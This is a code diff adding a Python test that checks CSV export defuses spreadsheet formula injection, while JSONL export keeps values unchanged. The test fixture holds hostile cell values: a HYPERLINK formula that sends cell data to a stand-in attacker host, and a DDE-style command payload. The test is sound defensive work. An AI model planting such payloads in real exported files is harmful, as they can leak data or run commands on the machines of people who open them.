@@ -156,6 +156,25 @@ async def test_every_row_of_5000_documents_round_trips_in_csv_and_jsonl(
     assert sorted(p.name for p in tmp_path.iterdir()) == [f"{new_id(1)}.csv", f"{new_id(2)}.jsonl"]
 
 
+async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    redis: ArqRedis, tmp_path: Path
+) -> None:
+    hostile = {
+        "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "description": "+1+cmd|' /C calc'!A0",
+        "text": "@SUM(1+1)",
+    }
+    [doc_id] = await save_all(redis, [snapshot(1).model_copy(update=hostile)])
+    _, path = await run_export(redis, tmp_path, "csv", 1)
+    [row] = read_csv(path)
+    assert row["id"] == doc_id
+    assert {name: row[name] for name in hostile} == {k: "'" + v for k, v in hostile.items()}
+    assert row["links_count"] == "1"  # numbers are not text: left alone
+    _, path = await run_export(redis, tmp_path, "jsonl", 2)
+    [record] = read_jsonl(path)
+    assert {name: record[name] for name in hostile} == hostile  # JSONL keeps the data as is
+
+
 async def test_filters_by_source_and_change_time_across_pages(
     redis: ArqRedis, tmp_path: Path
 ) -> None:
